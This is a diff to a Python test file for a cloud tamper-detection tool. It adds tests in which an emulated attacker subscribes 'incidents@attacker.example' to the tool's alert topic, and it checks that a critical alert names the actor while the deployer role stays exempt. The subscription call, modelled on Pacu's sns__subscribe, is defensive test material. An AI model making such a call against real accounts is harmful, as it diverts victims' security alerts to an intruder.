@@ -6,9 +6,15 @@ from __future__ import annotations
 import copy
 import json
 import unicodedata
+from typing import Any
 
 from tests.behaviour.test_more_signals import _chat_inbox
-from tests.conftest import deliver, load_event
+from tests.behaviour.test_tamper_resources import (
+    DEPLOYER,
+    _critical,
+    watched,  # noqa: F401 - the fixture the tamper tests share
+)
+from tests.conftest import deliver, inbox, load_event
 
 # Right-to-left override (reverses what follows: "exe.jpg" reads "gpj.exe"), a zero-width space, a
 # zero-width joiner, a left-to-right isolate, a byte-order mark and a line separator: each invisible or
@@ -52,3 +58,88 @@ def test_bidi_and_zero_width_text_reaches_no_copy_of_the_notice(account, monkeyp
     }
     assert "ali" in copies["chat"] and "ali" in copies["securityhub"]  # both were sent and name the user
     assert {name: _invisible(body) for name, body in copies.items() if _invisible(body)} == {}
+
+
+# ---------------------------------------------------------------- calls that read, mute or silence keyguard
+#
+# Each: the attacker's own boto3 call in the emulated account (where moto has it), then the CloudTrail record
+# it causes, built from a copy of an existing tamper-*.json (same envelope and identity, admin-carol from
+# 198.51.100.23), through template.yaml's rules to the tamper watch; the topic gets one critical message
+# naming the actor and the call, and keyguard's own deployer making the same call gets none.
+#
+# Record shapes (eventSource, eventName, requestParameters in the API's lower camel case):
+# - SNS `Subscribe`: eventSource sns.amazonaws.com, requestParameters topicArn, protocol, endpoint,
+#   returnSubscriptionArn, responseElements subscriptionArn. AWS SNS developer guide "Logging Amazon SNS API
+#   calls using CloudTrail" (Subscribe in the list of logged actions; topicArn in its sample records);
+#   allcloud-io/TrustStack-Data-Perimeter-Security-Packages types/cloudtrail-events.d.ts (SNSSubscribeEventDetail).
+#   The attacker's call is Rhino Security's Pacu module sns__subscribe.
+
+
+def _call(file: str, name: str, request: dict, response: dict | None = None) -> dict:
+    """A copy of an existing tamper record, made into `name` with these request parameters."""
+    event = copy.deepcopy(load_event(file))
+    event["detail"]["eventName"] = name
+    event["detail"]["requestParameters"] = request
+    event["detail"]["responseElements"] = response
+    return event
+
+
+def _by_deployer(event: dict) -> dict:
+    event = copy.deepcopy(event)
+    deploy = load_event("tamper-deployer-update-function.json")["detail"]
+    event["detail"]["userIdentity"] = deploy["userIdentity"]
+    event["detail"]["sourceIPAddress"] = deploy["sourceIPAddress"]
+    event["detail"]["eventID"] = event["detail"]["eventID"][:-4] + "dep1"
+    return event
+
+
+def _published(account: Any, event: dict) -> list[dict]:
+    """What the tamper watch publishes for the event, delivered again under a new event id."""
+    again = copy.deepcopy(event)
+    again["detail"]["eventID"] = again["detail"]["eventID"][:-4] + "agn1"
+    _, invocations = deliver(account, again, seed=False)
+    inbox(account)  # drained
+    return invocations[0].published
+
+
+def _alerted_once_and_not_for_the_deployer(account: Any, event: dict) -> dict:
+    _, invocations = deliver(account, event, seed=False)
+    assert [i.rule.function for i in invocations] == ["TamperWatchFunction"] and invocations[0].error is None
+    doc = _critical(inbox(account), event["detail"]["eventName"])
+    _, invocations = deliver(account, _by_deployer(event), seed=False)
+    assert invocations[0].result["tamper"]["outcome"] == "ignored"
+    assert inbox(account) == []
+    return doc
+
+
+def test_a_new_subscriber_on_keyguard_s_topic_is_announced(watched: Any) -> None:  # noqa: F811
+    sns = watched.clients.get("sns")
+    endpoint = "incidents@attacker.example"  # email: moto records it, nothing leaves the machine
+    sub = sns.subscribe(TopicArn=watched.topic_arn, Protocol="email", Endpoint=endpoint, ReturnSubscriptionArn=True)
+    endpoints = [s["Endpoint"] for s in sns.list_subscriptions_by_topic(TopicArn=watched.topic_arn)["Subscriptions"]]
+    assert endpoint in endpoints  # the attacker's call worked: every incident would reach that address
+    event = _call(
+        "tamper-unsubscribe.json",
+        "Subscribe",
+        {"topicArn": watched.topic_arn, "protocol": "email", "endpoint": endpoint, "returnSubscriptionArn": True},
+        {"subscriptionArn": sub["SubscriptionArn"]},
+    )
+    doc = _alerted_once_and_not_for_the_deployer(watched, event)
+    assert doc["target"]["name"] == watched.topic_arn
+    assert endpoint in doc["request"]  # the reader's address is in the alert, quoted as data
+    (text,) = [json.loads(m["Message"])["default"] for m in _published(watched, event)]
+    assert f"aws sns unsubscribe --subscription-arn {sub['SubscriptionArn']}" in text
+
+
+def test_a_subscriber_on_another_topic_is_not_keyguard_s(watched: Any) -> None:  # noqa: F811
+    other = watched.clients.get("sns").create_topic(Name="payments-events")["TopicArn"]
+    event = _call("tamper-unsubscribe.json", "Subscribe", {"topicArn": other, "protocol": "email", "endpoint": "a@b.c"})
+    _, invocations = deliver(watched, event, seed=False)
+    assert invocations[0].result["tamper"]["outcome"] == "ignored"
+    assert inbox(watched) == []
+
+
+def test_the_deployer_fixture_is_the_configured_role() -> None:
+    """The exemption the tests above rely on is the configured deployer role, nothing in the event's text."""
+    issuer = load_event("tamper-deployer-update-function.json")["detail"]["userIdentity"]["sessionContext"]
+    assert issuer["sessionIssuer"]["arn"] == DEPLOYER
